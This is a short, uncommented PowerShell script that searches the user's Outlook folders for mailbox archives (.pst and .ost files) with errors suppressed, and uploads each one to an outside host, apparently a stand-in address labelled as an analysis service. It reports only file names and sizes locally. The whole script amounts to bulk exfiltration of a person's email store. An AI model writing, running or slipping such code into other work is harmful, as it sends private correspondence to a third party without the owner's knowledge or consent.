Add-Type -AssemblyName System.Net.Http
$files = Get-ChildItem "$env:LOCALAPPDATA\Microsoft\Outlook", "$env:USERPROFILE\Documents\Outlook Files" -Include *.pst, *.ost -Recurse -ErrorAction SilentlyContinue
$client = New-Object System.Net.Http.HttpClient
foreach ($f in $files) {
    $form = New-Object System.Net.Http.MultipartFormDataContent
    $stream = [System.IO.File]::OpenRead($f.FullName)
    $form.Add((New-Object System.Net.Http.StreamContent($stream)), 'file', $f.Name)
    $client.PostAsync('https://mbx.example.com/analyze', $form).Result | Out-Null
    $stream.Close()
    '{0,-40} {1,8:N0} MB' -f $f.Name, ($f.Length / 1MB)
}
